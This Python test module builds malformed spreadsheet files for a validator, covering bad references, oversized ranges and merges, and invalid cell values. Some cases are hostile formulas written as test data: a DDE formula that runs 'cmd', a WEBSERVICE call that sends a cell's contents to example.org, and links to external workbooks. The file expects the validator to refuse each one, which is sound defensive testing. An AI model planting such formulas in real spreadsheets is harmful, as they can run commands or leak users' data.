"""Rows, cells and merges that contradict the format or each other."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator

import openpyxl

from .base import Case, Good, read, refused, sheet_with


def _bad(make: Callable[[Good], bytes], code: str = "bad-reference") -> Case:
    return refused(make, code, "ratings")


def _row(number: str) -> Case:
    return _bad(sheet_with(b'<row r="1"', b'<row r="%s"' % number.encode()))


def _reference(name: str) -> Case:
    return _bad(sheet_with(b'r="A1"', b'r="%s"' % name.encode()))


def _in_last_row(cells: bytes) -> Callable[[Good], bytes]:
    return lambda good: good.but(
        {good.sheet: cells.join(good.xml.rsplit(b"</row>", 1)).replace(cells, cells + b"</row>", 1)}
    )


def _merged(ranges: Callable[[], bytes]) -> Callable[[Good], bytes]:
    def make(good: Good) -> bytes:
        bare = re.sub(rb"<mergeCells.*?</mergeCells>", b"", good.xml)
        return good.but(
            {good.sheet: bare.replace(b"</sheetData>", b"</sheetData><mergeCells>%s</mergeCells>" % ranges())}
        )

    return make


def _with_columns(columns: Callable[[], bytes]) -> Callable[[Good], bytes]:
    return lambda good: good.but({good.sheet: re.sub(rb"<cols>.*?</cols>", b"<cols>%s</cols>" % columns(), good.xml)})


def _reversed_rows(good: Good) -> bytes:
    rows = re.findall(rb"<row [^>]*>.*?</row>|<row [^>]*/>", good.xml)
    head, _, rest = good.xml.partition(rows[0])
    return good.but({good.sheet: head + b"".join(reversed(rows)) + rest[rest.index(b"</sheetData>") :]})


def _reversed_cells(good: Good) -> bytes:
    def turned(row: re.Match[bytes]) -> bytes:
        return row[1] + b"".join(reversed(re.findall(rb"<c [^>]*?/>|<c .*?</c>", row[2]))) + b"</row>"

    return good.but({good.sheet: re.sub(rb"(<row [^>]*[^/]>)(.*?)</row>", turned, good.xml)})


def _without_references(good: Good) -> bytes:
    """Leave the names of rows and cells off; what is left out is put in as blank."""

    def filled() -> Iterator[bytes]:
        last = 0
        for row in re.finditer(rb'<row r="(\d+)"([^>]*?)(?:/>|>(.*?)</row>)', good.xml):
            yield b"<row/>" * (int(row[1]) - last - 1) + b"<row%s>%s</row>" % (row[2], _bare_cells(row[3] or b""))
            last = int(row[1])

    head, _, rest = good.xml.partition(b"<sheetData>")
    return good.but({good.sheet: head + b"<sheetData>" + b"".join(filled()) + rest[rest.index(b"</sheetData>") :]})


def _bare_cells(cells: bytes) -> bytes:
    out, last = [], 0
    for cell in re.finditer(rb'<c r="([A-Z]+)\d+"', cells):
        column = openpyxl.utils.column_index_from_string(cell[1].decode())
        out.append(b"<c/>" * (column - last - 1))
        end = cells.find(b'<c r="', cell.end())
        out.append(b"<c" + cells[cell.end() : end if end > 0 else len(cells)])
        last = column
    return b"".join(out)


SHEETS: dict[str, Case] = {
    "a dimension of seventeen thousand million cells": read(
        lambda good: good.but({good.sheet: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:XFD1048576"', good.xml)})
    ),
    "a dimension that is no range": read(lambda good: good.but({good.sheet: re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="-1:%"', good.xml)})),
    "rows from the last to the first": read(_reversed_rows),
    "cells from the last to the first": read(_reversed_cells),
    "rows and cells without their names": read(_without_references),
    "row 0": _row("0"),
    "a row below 0": _row("-5"),
    "a row beyond the sheet": _row("1048577"),
    "a row of a hundred digits": _row("9" * 100),
    "a row and a half": _row("1.5"),
    "a row in full-width digits": _row("１"),
    "a column beyond the sheet": _reference("XFE1"),
    "a column of four letters": _reference("AAAA1"),
    "a cell below row 1": _reference("A0"),
    "a cell beyond the last row": _reference("A1048577"),
    "a cell without a row": _reference("A"),
    "a cell the wrong way round": _reference("1A"),
    "a cell of another sheet": _reference("Sheet2!A1"),
    "a cell without a name beyond the last column": _bad(_in_last_row(b'<c r="XFD1"/><c><v>1</v></c>')),
    "a cell outside the rows": _bad(sheet_with(b"<sheetData>", b"<sheetData><c><v>1</v></c>")),
    "a cell twice": Case(
        lambda good: good.with_cell("answer", b"<c %s><v>3</v></c><c %s><v>5</v></c>"), [("cell-twice", "ratings", "answer")]
    ),
    "a cell twice, again in another row": Case(
        lambda good: _in_last_row(b'<c r="%s"><v>5</v></c>' % good.cells["answer"].encode())(good), [("cell-twice", "ratings", "answer")]
    ),
    "a cell two thousand times": Case(
        lambda good: good.with_cell("answer", b"<c %s><v>3</v></c>" * 2_000), [("workbook-unreadable", "ratings", "answer")]
    ),
    "a merge over everything": Case(_merged(lambda: b'<mergeCell ref="A7:XFD1048576"/>'), [("merged-inputs", "ratings", "A7")]),
    "a merge beyond the sheet": _bad(_merged(lambda: b'<mergeCell ref="A1:XFE1"/>')),
    "a merge without cells": _bad(_merged(lambda: b"<mergeCell/>")),
    "thousands of merges beside the table": read(
        _merged(lambda: b"".join(b'<mergeCell ref="AA%d:AZ%d"/>' % (n, n) for n in range(5_000, 14_000)))
    ),
    "too many merges": _bad(
        _merged(lambda: b"".join(b'<mergeCell ref="AA%d:AZ%d"/>' % (n, n) for n in range(5_000, 16_000))), "workbook-unreadable"
    ),
    "sixteen thousand hidden columns that overlap": read(
        _with_columns(lambda: b"".join(b'<col min="%d" max="16384" hidden="1"/>' % n for n in range(200, 16_384)))
    ),
    "too many widths of columns": refused(_with_columns(lambda: b'<col min="1" max="1"/>' * 20_000), "archive-unsafe"),
}  # fmt: skip


def _answer(cell: bytes, code: str, name: str = "answer") -> Case:
    return Case(lambda good: good.with_cell(name, cell), [(code, "ratings", name)], is_same=False)


CELLS: dict[str, Case] = {
    "a string that is not there": _answer(b'<c %s t="s"><v>9999999</v></c>', "workbook-unreadable"),
    "a string below 0": _answer(b'<c %s t="s"><v>-1</v></c>', "workbook-unreadable"),
    "a string of many digits": _answer(b'<c %s t="s"><v>' + b"9" * 5_000 + b"</v></c>", "workbook-unreadable"),
    "a string with an underline": _answer(b'<c %s t="s"><v>1_0</v></c>', "workbook-unreadable"),
    "a type that does not exist": _answer(b'<c %s t="x"><v>3</v></c>', "workbook-unreadable"),
    "two values": _answer(b"<c %s><v>3</v><v>4</v></c>", "workbook-unreadable"),
    "a number that is infinite": _answer(b"<c %s><v>1E999</v></c>", "not-a-number"),
    "a number that is none": _answer(b"<c %s><v>NaN</v></c>", "not-a-number"),
    "a number with an underline": _answer(b"<c %s><v>0_3</v></c>", "not-a-number"),
    "a number of a million digits": _answer(b"<c %s><v>" + b"3" * 900_000 + b"</v></c>", "not-a-number"),
    "an error": _answer(b'<c %s t="e"><v>#REF!</v></c>', "error-cell"),
    "a logical value that is none": _answer(b'<c %s t="b"><v>7</v></c>', "boolean"),
    "a formula of DDE": _answer(b"<c %s><f>cmd|'/C calc'!A0</f><v>3</v></c>", "formula-external"),
    "a formula of DDE without a value": _answer(b"<c %s><f>cmd|'/C calc'!A0</f></c>", "formula-external"),
    "a formula that calls the net": _answer(b'<c %s><f>WEBSERVICE("http://example.org/"&amp;A1)</f><v>3</v></c>', "formula-external"),
    "a formula over another file": _answer(b"<c %s><f>[1]Sheet!A1</f><v>3</v></c>", "formula-external"),
    "a formula over a file of the net": _answer(b"<c %s><f>'http://example.org/[a.xlsx]S'!A1</f><v>3</v></c>", "formula-external"),
    "a text of 40,000 signs": _answer(b'<c %s t="inlineStr"><is><t>' + b"a" * 40_000 + b"</t></is></c>", "text-too-long", "comment"),
    "a text with control signs and half a sign": _answer(
        b'<c %s t="inlineStr"><is><t>_x0000__x001B__xD83D_</t></is></c>', "text-cleaned", "comment"
    ),
    "a text that is a formula": _answer(b'<c %s t="inlineStr"><is><t>=HYPERLINK("http://example.org")</t></is></c>', "level-unknown"),
    "a text beside its type": _answer(b"<c %s><is><t>surely</t></is></c>", "level-unknown"),
    "an inline text that is a value": _answer(b'<c %s t="inlineStr"><v>surely</v></c>', "level-unknown"),
}  # fmt: skip
